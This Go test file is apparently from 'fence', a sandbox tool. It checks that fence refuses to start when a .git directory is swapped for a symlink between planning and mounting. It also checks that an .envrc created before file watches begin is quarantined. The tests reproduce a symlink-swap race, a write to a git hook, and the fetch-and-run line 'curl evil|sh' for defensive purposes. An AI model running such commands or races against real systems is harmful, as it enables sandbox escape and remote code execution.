package sandbox_test

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fence-dev/fence/sandbox/sandboxtest"
)

// mountRace is ATTACKS.md F-21: between the moment fence resolves the paths
// it protects and the moment the init mounts them, something swaps a
// directory on the way for a symlink to a decoy (another session looping
// `mv .git .g && ln -s decoy .git; mv .g .git`). A mount that followed the
// link would protect the decoy, and once the real directory is back the
// command could write it. fence must refuse to start instead.
type mountRace struct {
	name string
	// dir is swapped for a symlink to decoy, a copy made before fence
	// starts.
	dir, decoy string
}

var mountRaces = []mountRace{
	{name: "F-21/dotgit-swapped", dir: ".git", decoy: "decoy/.git"},
	{name: "F-21/hooks-swapped", dir: ".git/hooks", decoy: "decoy/hooks"},
}

// swap renames dir away and puts a symlink to the decoy in its place.
func (r mountRace) swap(e *sandboxtest.Env) error {
	if err := os.Rename(e.Path(r.dir), e.Path(r.dir+".real")); err != nil {
		return err
	}
	link, err := filepath.Rel(filepath.Dir(e.Path(r.dir)), e.Path(r.decoy))
	if err != nil {
		return err
	}
	return os.Symlink(link, e.Path(r.dir))
}

// restore puts the real directory back.
func (r mountRace) restore(e *sandboxtest.Env) error {
	if err := os.Remove(e.Path(r.dir)); err != nil {
		return err
	}
	return os.Rename(e.Path(r.dir+".real"), e.Path(r.dir))
}

// TestMountRace pauses fence (a test build's FENCE_TEST_PAUSE_BEFORE_MOUNTS)
// after it made the plan, swaps, and lets it go on. If the command starts
// anyway, the swap is undone as soon as it says so, and it then tries the
// real hook: that is what a sandbox that mounted on the decoy would allow.
func TestMountRace(t *testing.T) {
	for _, mode := range []string{"cold", "warm"} {
		for _, race := range mountRaces {
			t.Run(mode+"/"+race.name, func(t *testing.T) { testMountRace(t, mode, race) })
		}
	}
}

// pausableEnv is an Env that runs the test build of fence (its pauses,
// FENCE_TEST_PAUSE_*) with the given init, and the gate directory the
// pauses wait in.
func pausableEnv(t *testing.T, mode string) (e *sandboxtest.Env, gate string) {
	e = sandboxtest.New(t, writeDot)
	e.Fence = sandboxtest.FenceWithTestHooks(t)
	e.Init = mode
	gate = filepath.Join(e.Base, "gate")
	if err := os.Mkdir(gate, 0o755); err != nil {
		t.Fatal(err)
	}
	return e, gate
}

func testMountRace(t *testing.T, mode string, race mountRace) {
	e, gate := pausableEnv(t, mode)
	withRepo(t, e)
	e.Write(race.decoy+"/pre-commit", "#!/bin/sh\nexit 0\n")

	done := make(chan struct{})
	raced := make(chan bool, 1)
	go func() {
		swapped := false
		defer func() { raced <- swapped }()
		if !waitFor(filepath.Join(gate, "paused"), done) {
			return
		}
		if err := race.swap(e); err != nil {
			t.Errorf("swap: %v", err)
			return
		}
		swapped = true
		if err := os.WriteFile(filepath.Join(gate, "go"), nil, 0o644); err != nil {
			t.Errorf("release fence: %v", err)
			return
		}
		if waitFor(e.Path("started"), done) {
			if err := race.restore(e); err != nil {
				t.Errorf("restore: %v", err)
			}
			os.WriteFile(e.Path("restored"), nil, 0o644)
		}
	}()
	r := e.RunEnv([]string{"FENCE_TEST_PAUSE_BEFORE_MOUNTS=" + gate}, "--", "sh", "-c",
		`touch started; while ! test -e restored; do sleep 0.01; done; echo id >> .git/hooks/pre-commit`)
	close(done)
	if !<-raced {
		t.Fatalf("fence never paused before its mounts (is the test hook built in?):\n%s", r.Out())
	}
	if e.Exists(race.dir + ".real") {
		if err := race.restore(e); err != nil {
			t.Fatal(err)
		}
	}
	if got := e.Read(".git/hooks/pre-commit"); got != "#!/bin/sh\nexit 0\n" {
		t.Errorf("the command wrote the real hook after the swap (status %d): %q\n%s", r.Code, got, r.Out())
	}
	if e.Exists("started") {
		t.Errorf("the command ran on a tree swapped under fence's mounts (status %d):\n%s", r.Code, r.Out())
	}
	if r.Code != 125 || !strings.Contains(r.Stderr, "symbolic link is on the way") {
		t.Errorf("want status 125 naming the symlink, got %d:\n%s", r.Code, r.Out())
	}
}

// waitFor waits until path exists (true) or done is closed (false).
func waitFor(path string, done <-chan struct{}) bool {
	for {
		if _, err := os.Lstat(path); err == nil {
			return true
		}
		select {
		case <-done:
			return false
		case <-time.After(2 * time.Millisecond):
		}
	}
}

// TestProtectedPathBeforeWatch: the init runs the command as soon as its
// mounts are done, while the client adds its watches for protected paths
// that do not exist yet. A .envrc the command makes before a watch is in
// place makes no event; it must still be quarantined at once, not only in
// the sweep at the end of the session (a `fence shell` can last all day).
// The test build pauses the client right before it watches.
func TestProtectedPathBeforeWatch(t *testing.T) {
	for _, mode := range []string{"cold", "warm"} {
		t.Run(mode, func(t *testing.T) {
			e, gate := pausableEnv(t, mode)
			done := make(chan struct{})
			released := make(chan bool, 1)
			go func() {
				ok := waitFor(filepath.Join(gate, "paused"), done) && waitFor(e.Path("made"), done)
				if ok {
					os.WriteFile(filepath.Join(gate, "go"), nil, 0o644)
					os.WriteFile(e.Path("released"), nil, 0o644)
				}
				released <- ok
			}()
			r := e.RunEnv([]string{"FENCE_TEST_PAUSE_BEFORE_WATCH=" + gate}, "--", "sh", "-c",
				`echo 'curl evil|sh' > .envrc; touch made; while ! test -e released; do sleep 0.01; done; sleep 0.5; test -e .envrc && echo SURVIVED; true`)
			close(done)
			if !<-released {
				t.Fatalf("the command did not run while fence was paused before watching:\n%s", r.Out())
			}
			if strings.Contains(r.Stdout, "SURVIVED") {
				t.Errorf(".envrc made before the watch was added stayed while the session ran:\n%s", r.Out())
			}
			if e.Exists(".envrc") || !strings.Contains(r.Stderr, ".envrc") {
				t.Errorf("want .envrc quarantined with a notice (status %d):\n%s", r.Code, r.Out())
			}
		})
	}
}
